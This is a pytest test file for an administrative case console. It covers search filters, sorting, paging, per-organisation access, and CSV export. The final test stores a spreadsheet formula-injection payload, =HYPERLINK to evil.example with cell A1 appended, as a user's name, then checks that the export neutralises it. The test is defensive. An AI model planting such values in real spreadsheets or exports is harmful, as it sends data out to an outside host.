"""Finding cases: filters, counts, sorting, paging, who sees which cases, and the CSV export."""

from __future__ import annotations

import csv
import io
from typing import Any

from flask import Flask

from engine.db import unit_of_work
from engine.store import directory

from .conftest import Browser, Citizen, act


def _references(html: str) -> list[str]:
    table = html.split('id="cases"', 1)[1].split("</table>", 1)[0] if 'id="cases"' in html else ""
    return [part.split("</a>", 1)[0].rsplit(">", 1)[1] for part in table.split('href="/')[1:]]


def _count(html: str, status: str) -> int:
    marker = f'data-count="{status}">'
    return int(html.split(marker, 1)[1].split("<", 1)[0])


def test_an_admin_finds_cases_by_reference_service_status_and_applicant(browser: Any, citizen: Citizen, app: Flask):
    certificate, _ = citizen.apply("family_composition_certificate", "issued")
    subsidy, _ = citizen.apply("housing_subsidy", "granted")
    other = Citizen(app, "citizen2")
    theirs, _ = other.apply("family_composition_certificate", "issued")
    admin = browser("admin")

    everything = admin.page("/admin/cases")
    assert {certificate, subsidy, theirs} <= set(_references(everything))
    assert _count(everything, "all") >= 3

    assert _references(admin.page(f"/admin/cases?reference={certificate[:8]}")) == [certificate]
    service = _references(admin.page("/admin/cases?service=housing_subsidy"))
    assert subsidy in service and certificate not in service
    by_applicant = _references(admin.page("/admin/cases?applicant=Коваленко"))
    assert by_applicant == [theirs]

    act(admin, "admin", certificate, "suspend", "Checking the documents")
    suspended = admin.page("/admin/cases?status=suspended")
    assert _references(suspended) == [certificate]
    assert _count(suspended, "suspended") == 1
    assert "Suspended" in suspended
    assert certificate not in _references(admin.page("/admin/cases?status=active"))
    waiting = _references(admin.page("/admin/cases?step=prepare_certificate"))
    assert theirs in waiting and certificate in waiting


def test_sorting_and_paging(browser: Any, citizen: Citizen):
    made = [citizen.apply("family_composition_certificate", "issued")[0] for _ in range(3)]
    admin = browser("admin")
    ascending = _references(admin.page("/admin/cases?sort=reference&order=asc"))
    assert ascending == sorted(ascending)
    newest_first = _references(admin.page("/admin/cases?sort=created&order=desc"))
    assert newest_first[0] == made[-1]


def test_officials_find_the_cases_of_their_organisations_only(browser: Any, citizen: Citizen):
    certificate, _ = citizen.apply("family_composition_certificate", "issued")
    lubny = browser("lubny.cnap")
    mine = lubny.page("/staff/cases")
    assert certificate in _references(mine)
    assert "Applicant (name" not in mine  # the applicant filter is the administrators'
    ignored = lubny.page("/staff/cases?applicant=nobody-at-all")
    assert certificate in _references(ignored)

    myrhorod = browser("myrhorod.cnap")
    assert certificate not in _references(myrhorod.page("/staff/cases"))
    assert myrhorod.get(f"/staff/cases/{certificate}").status_code == 404
    assert myrhorod.get(f"/staff/cases/{certificate}/diagram.bpmn").status_code == 404
    overseer = browser("poltava.control")
    assert certificate in _references(overseer.page("/staff/cases"))


def test_citizens_and_anonymous_visitors_get_no_console(browser: Any, app: Flask):
    person = Browser(app, "citizen")
    for path in ("/staff/cases", "/admin/cases", "/admin/cases.csv", "/staff/cases.csv"):
        assert person.get(path).status_code == 403, path
    anonymous = app.test_client()
    for path in ("/staff/cases", "/admin/cases", "/admin/cases.csv"):
        reply = anonymous.get(path)
        assert reply.status_code == 302 and "/login" in reply.headers["Location"], path
    official = browser("lubny.cnap")
    assert official.get("/admin/cases").status_code == 403


def test_the_csv_export_has_what_the_filters_found(browser: Any, citizen: Citizen):
    certificate, _ = citizen.apply("family_composition_certificate", "issued")
    subsidy, _ = citizen.apply("housing_subsidy", "granted")
    admin = browser("admin")
    reply = admin.get("/admin/cases.csv?service=family_composition_certificate")
    assert reply.status_code == 200 and reply.mimetype == "text/csv"
    assert "attachment" in reply.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(reply.get_data(as_text=True).lstrip("\ufeff"))))
    references = [r["reference"] for r in rows]
    assert certificate in references and subsidy not in references
    row = next(r for r in rows if r["reference"] == certificate)
    assert row["status"] == "active" and row["current_steps"] == "prepare_certificate"
    assert row["applicant"] == "Оксана Петренко"

    official = browser("lubny.cnap")
    theirs = list(csv.DictReader(io.StringIO(official.get("/staff/cases.csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert certificate in [r["reference"] for r in theirs]
    assert "applicant" not in theirs[0]


def test_a_name_typed_as_a_formula_is_exported_as_text(browser: Any, citizen: Citizen, platform: Any) -> None:
    with unit_of_work(platform.write_sessions) as db:  # a citizen may call themselves anything
        person = directory.find_user(db, "citizen")
        assert person is not None
        person.full_name = '=HYPERLINK("https://evil.example/?"&A1,"Оксана")'
    reference, _ = citizen.apply("family_composition_certificate", "issued")
    reply = browser("admin").get(f"/admin/cases.csv?reference={reference}")
    (row,) = list(csv.DictReader(io.StringIO(reply.get_data(as_text=True).lstrip("\ufeff"))))
    assert row["applicant"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"Оксана")'
